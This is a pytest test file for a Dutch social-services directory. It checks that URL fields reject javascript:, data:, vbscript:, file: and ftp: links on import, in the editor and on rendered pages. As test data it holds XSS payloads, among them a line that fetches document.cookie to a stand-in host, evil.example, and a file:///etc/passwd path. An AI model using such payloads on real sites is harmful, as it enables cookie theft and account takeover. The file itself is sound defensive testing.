"""A link on the sociale kaart is a web address, an e-mail or a phone number: never a script.

``javascript:`` and other schemes are refused on import (file, row, field and why) and in the
editor, and a page never makes a link of one that is in the database already.
"""

import json
import shutil
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import translation

from steunsysteem.accounts.tests.two_factor import sign_in
from steunsysteem.directory.models import ChangeRequest, Organization, Service

from .factories import OrganizationFactory, ServiceFactory, UserFactory
from .test_editor_views import form_data
from .test_hsds_import import (
    EXAMPLES,
    OFFICIAL,
    ORGANIZATION_ID,
    SERVICE_ID,
    counts,
    import_hsds,
    refused,
    set_cell,
)

pytestmark = pytest.mark.django_db

UNSAFE = [
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://files.example.org/folder.pdf",
]


@pytest.fixture(autouse=True)
def english_messages():
    with translation.override("en"):
        yield


@pytest.fixture
def package(tmp_path) -> Path:
    folder = Path(shutil.copytree(OFFICIAL, tmp_path / "csv", copy_function=shutil.copyfile))
    for name, column in [
        ("locations.csv", "organization_id"),
        ("contacts.csv", "organization_id"),
        ("contacts.csv", "service_at_location_id"),
        ("taxonomy_terms.csv", "taxonomy_id"),
        ("taxonomy_terms.csv", "parent_id"),
        ("organizations.csv", "parent_organization_id"),
    ]:
        set_cell(folder / name, column, "")
    return folder


@pytest.mark.parametrize("link", UNSAFE)
def test_an_unsafe_link_in_a_csv_package_is_refused_and_nothing_imported(package, link):
    set_cell(package / "services.csv", "url", link)
    before = counts()

    problems = refused(package)

    scheme = link.split(":")[0].lower()
    shown = f"{link[:57]}..." if len(link) > 60 else link
    assert problems == [
        f'services.csv, row 2, field "url": "{shown}" '
        f"starts with {scheme}:, which is not allowed for a link; use a web address (https:, "
        "http:), mailto: or tel:"
    ]
    assert counts() == before


@pytest.mark.parametrize(
    "name, column",
    [
        ("organizations.csv", "website"),
        ("organizations.csv", "logo"),
        ("locations.csv", "url"),
        ("accessibility.csv", "url"),
        ("schedules.csv", "schedule_link"),
        ("required_documents.csv", "uri"),
        ("service_areas.csv", "uri"),
        ("taxonomies.csv", "uri"),
    ],
)
def test_every_link_column_refuses_javascript(package, name, column):
    set_cell(package / name, column, "javascript:alert(1)")

    (problem,) = refused(package)

    assert problem.startswith(f'{name}, row 2, field "{column}": "javascript:alert(1)" starts')


def test_an_unsafe_link_in_a_json_document_names_its_place(tmp_path):
    document = json.loads((EXAMPLES / "service_full.json").read_text("utf-8"))
    document["organization"]["website"] = "javascript:fetch('//evil.example/'+document.cookie)"
    path = tmp_path / "service_full.json"
    path.write_text(json.dumps(document), "utf-8")

    (problem,) = refused(path)

    assert problem.startswith('service_full.json, at $.organization, field "website": ')
    assert "starts with javascript:, which is not allowed for a link" in problem
    assert not Service.objects.exists()


def test_web_mailto_and_tel_links_are_imported(package):
    set_cell(package / "services.csv", "url", "HTTPS://example.org/koor")
    set_cell(package / "organizations.csv", "website", "mailto:info@example.org")
    set_cell(package / "locations.csv", "url", "tel:+31201234567")

    import_hsds(package)

    assert Service.objects.get(id=SERVICE_ID).url == "HTTPS://example.org/koor"
    assert Organization.objects.get(id=ORGANIZATION_ID).website == "mailto:info@example.org"


@pytest.mark.parametrize("link", ["javascript:alert(1)", "ftp://files.example.org/"])
def test_an_editor_cannot_propose_an_unsafe_website(client, settings, link):
    settings.LANGUAGE_CODE = "en"
    organization = OrganizationFactory()
    service = ServiceFactory(organization=organization, url="https://example.org")
    sign_in(client, UserFactory(username="els", editor=True, organizations=[organization]))

    response = client.post(
        reverse("directory:editor_service_edit", args=[service.pk]), form_data(service, url=link)
    )

    assert response.status_code == 200
    assert "Enter a web address that starts with https:// or http://." in (
        response.content.decode()
    )
    assert not ChangeRequest.objects.exists()


def test_a_page_never_makes_a_link_of_an_unsafe_address_already_stored(client):
    organization = OrganizationFactory(website="javascript:alert('organisatie')")
    service = ServiceFactory(organization=organization, url="javascript:alert('dienst')")

    service_page = client.get(reverse("directory:service_detail", args=[service.pk]))
    organization_page = client.get(reverse("directory:organization_detail", args=[organization.pk]))

    for page in (service_page, organization_page):
        html = page.content.decode()
        assert page.status_code == 200
        assert 'href="javascript:' not in html
        assert 'href="javascript' not in html.lower()
    assert "javascript:alert(&#x27;dienst&#x27;)" in service_page.content.decode()


def test_a_safe_website_is_still_a_link(client):
    service = ServiceFactory(url="https://koor.example.org/")

    html = client.get(reverse("directory:service_detail", args=[service.pk])).content.decode()

    assert '<a class="utrecht-link" href="https://koor.example.org/">' in html
